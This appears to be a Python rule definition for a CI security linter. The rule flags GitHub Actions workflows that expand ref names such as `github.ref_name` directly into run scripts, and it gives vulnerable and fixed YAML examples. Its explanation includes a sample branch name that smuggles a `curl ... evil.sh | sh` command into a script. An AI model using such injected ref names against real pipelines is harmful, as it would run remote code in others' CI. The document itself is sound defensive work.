"""Ref names (`github.ref`, `github.ref_name` ...) expanded into scripts."""

from __future__ import annotations

from collections.abc import Iterator

from deploysafe.ci.contexts import Trust
from deploysafe.ci.github import workflow_of
from deploysafe.ci.injection import Scope, injections
from deploysafe.ci.yamlci import CiDocument
from deploysafe.model import Document, Practice, Severity, Target, Violation
from deploysafe.rules.base import Context, Rule


def check(doc: Document, ctx: Context) -> Iterator[Violation]:
    if not isinstance(doc, CiDocument):
        return
    wf = workflow_of(doc)
    for job in wf.jobs:
        strategy = job.get("strategy")
        matrix = strategy.get("matrix") if isinstance(strategy, dict) else None
        for step in job.steps:
            scope = Scope((step.env, job.env, wf.env), matrix, level=Trust.WRITER)
            for inj in injections(doc, step, scope):
                yield Violation(inj.path, f"{job.label} {step.label}: {inj.why}", offset=inj.offset)


RULE = Rule(
    id="DS115",
    title="Workflows should not expand ref names into scripts",
    practice=Practice.TRIGGERS,
    severity=Severity.LOW,
    target=Target.GITHUB_WORKFLOW,
    why=(
        "`github.ref`, `github.ref_name` and `github.base_ref` name a branch or tag of this "
        "repository, so only people who can push to it choose them, and they can change the "
        "workflow anyway: not an outsider's attack (DS102). But git allows `$(...)`, `;` and "
        "backticks in ref names, so a branch called `x;$(curl${IFS}evil.sh|sh)` runs code "
        "when its name is substituted into a script, and the same habit applied to "
        "`github.head_ref` (a fork's branch) is DS102."
    ),
    fix='Read the runner\'s variable instead: `run: echo "$GITHUB_REF_NAME"` (or pass the '
    "value through `env:` and quote it).",
    bad="""\
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "building ${{ github.ref_name }}"
""",
    good="""\
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "building $GITHUB_REF_NAME"
""",
    not_reported=(
        "Logins (`github.actor`, `*.user.login`): GitHub allows only letters, digits and "
        "hyphens in them. Ref names in `if:` conditions and `with:` inputs that are not "
        "code. Composite actions (their `inputs.*` are DS103's)."
    ),
    references=(
        "zizmor template-injection (reports github.ref as high)",
        "git check-ref-format",
    ),
    check=check,
)
